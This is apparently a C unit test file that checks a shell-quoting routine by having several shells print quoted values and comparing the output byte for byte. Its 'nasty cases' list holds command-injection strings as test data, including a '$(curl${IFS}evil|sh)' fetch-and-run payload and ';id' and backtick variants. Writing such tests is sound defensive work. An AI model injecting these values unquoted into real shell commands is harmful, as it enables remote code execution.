/* tests/unit/job/shell/test_quote.c - mirrors core/job/shell/quote.c: every value comes out of every
 * shell byte for byte (hardening.md Q8).
 *
 * One script for each shell prints all values, each ended by a NUL, from inside the frame, so that
 * what is quoted is quoted a second time as a part of the body. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include "core/base/random.h"
#include "core/base/str.h"
#include "core/job/shell/bash.h"
#include "core/job/shell/quote.h"
#include "tests/harness/harness.h"
#include "tests/harness/shell.h"

#define SEED 20
#define RANDOM_STRINGS 10000
#define RANDOM_LEN 24

static const char specials[] = "'\"`$\\!#%&()*+,-./:;<=>?@[]^_{|}~ \t\n\r\x7f\x1b\x80\xff";

static void add_value(struct buf *body, struct buf *want, const char *value)
{
    buf_add_str(body, "printf '%s\\0' ");
    quote_word(body, value);
    buf_add_char(body, '\n');
    buf_add(want, value, strlen(value) + 1);
}

static void assert_same(const char *shell, const struct buf *got, const struct buf *want)
{
    size_t same = 0, start;

    while (same < got->len && same < want->len && got->data[same] == want->data[same])
        same++;
    if (same == want->len && got->len == want->len)
        return;
    for (start = MIN(same, want->len - 1); start > 0 && want->data[start - 1]; start--)
        continue;
    autobuf struct buf shown = BUF_INIT, other = BUF_INIT;
    str_display(&shown, want->data + start, strlen(want->data + start), 200);
    str_display(&other, got->data ? got->data + MIN(start, got->len) : "",
                got->data ? strlen(got->data + MIN(start, got->len)) : 0, 200);
    fail_msg("%s: value \"%s\" came out as \"%s\"", shell, buf_str(&shown), buf_str(&other));
}

static void assert_round_trip(const struct buf *body, const struct buf *want)
{
    auto_ptr(harness_remove_dir) char *dir = harness_temp_dir();

    for (enum harness_shell shell = 0; shell < HARNESS_SHELLS; shell++) {
        autobuf struct buf script = BUF_INIT, out = BUF_INIT, errors = BUF_INIT;
        int status;

        shell_sh.wrap(&shell_sh, &script, dir, buf_str(body));
        assert_int_equal(buf_error(&script), 0);
        status = harness_run_shell(shell, dir, &script, &out, &errors);
        if (status != 0 || errors.len > 0)
            fail_msg("%s: status %d, %s", harness_shell_names[shell], status, buf_str(&errors));
        assert_same(harness_shell_names[shell], &out, want);
    }
}

static void test_every_byte_and_every_pair_of_specials(void **unused)
{
    autobuf struct buf body = BUF_INIT, want = BUF_INIT;
    char value[3] = "";

    (void) unused;
    assert_int_equal(sizeof(specials) - 1, 40);
    add_value(&body, &want, "");
    for (int c = 1; c < 256; c++) {
        value[0] = (char) c;
        add_value(&body, &want, value);
    }
    for (size_t i = 0; i < sizeof(specials) - 1; i++)
        for (size_t k = 0; k < sizeof(specials) - 1; k++) {
            value[0] = specials[i];
            value[1] = specials[k];
            add_value(&body, &want, value);
        }
    assert_round_trip(&body, &want);
}

static void test_random_strings(void **unused)
{
    autobuf struct buf body = BUF_INIT, want = BUF_INIT;
    struct rng_seeded seeded;
    const struct rng *rng = &seeded.rng;

    (void) unused;
    rng_seed(&seeded, SEED);
    for (size_t i = 0; i < RANDOM_STRINGS; i++) {
        char value[RANDOM_LEN + 1] = "";
        size_t len = (size_t) rng_below(rng, RANDOM_LEN + 1);

        /* Half of the bytes special, so that they meet each other. */
        for (size_t k = 0; k < len; k++)
            value[k] = rng_below(rng, 2) ? specials[rng_below(rng, sizeof(specials) - 1)]
                                         : (char) (1 + rng_below(rng, 255));
        add_value(&body, &want, value);
    }
    assert_round_trip(&body, &want);
}

static void test_nasty_cases(void **unused)
{
    static const struct {
        const char *why, *value;
    } cases[] = {
        { "hardening_1", "$(curl${IFS}evil|sh)" },
        { "hardening_2", "`id`" },
        { "hardening_2", "a;id" },
        { "hardening_3", "it's" },
        { "hardening_3", "';id;'" },
        { "hardening_4", "a\nid" },
        { "hardening_5", "-n" },
        { "hardening_5", "-e" },
        { "hardening_5", "\\c stop" },
        { "hardening_6", "~" },
        { "hardening_6", "*" },
        { "hardening_6", "{a,b}" },
        { "hardening_6", "!x" },
        { "hardening_6", "a\\" },
        { "a body quotes quotes", "''\\''" },
        { "trailing newlines stay", "a\n\n" },
    };
    autobuf struct buf body = BUF_INIT, want = BUF_INIT;

    (void) unused;
    for (size_t i = 0; i < ARRAY_LEN(cases); i++)
        add_value(&body, &want, cases[i].value);
    assert_round_trip(&body, &want);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_every_byte_and_every_pair_of_specials),
        cmocka_unit_test(test_random_strings),
        cmocka_unit_test(test_nasty_cases),
    };

    return cmocka_run_group_tests_name("job-shell-quote", tests, NULL, NULL);
}
